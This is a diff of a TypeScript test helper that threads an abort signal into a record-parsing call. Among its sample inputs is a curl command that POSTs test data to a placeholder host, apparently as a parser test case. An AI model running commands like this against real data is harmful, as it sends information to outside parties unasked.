@@ -8,6 +8,7 @@ import type { ExchangeFormat } from '../../shared/model/exchange.ts';
 import { foreignRecords } from '../fixtures/foreign-records.ts';
 import type { TextKind } from './text-kind.ts';
 
+const idle = new AbortController().signal;
 const oneMiB = 1024 * 1024;
 const logins = JSON.stringify({
   auths: {
@@ -66,10 +67,8 @@ function imported(told: ExchangeFormat | undefined, good: TextKind['good']): Tex
     good: [...good, `curl -X POST https://a.example -d '${good[0]}'`],
     longest: oneMiB,
     read: async (text) => {
-      const { records } = await recordsOfText({
-        text,
-        ...(told === undefined ? {} : { format: told }),
-      });
+      const input = { text, ...(told === undefined ? {} : { format: told }) };
+      const { records } = await recordsOfText(input, idle);
       return records.length;
     },
   };
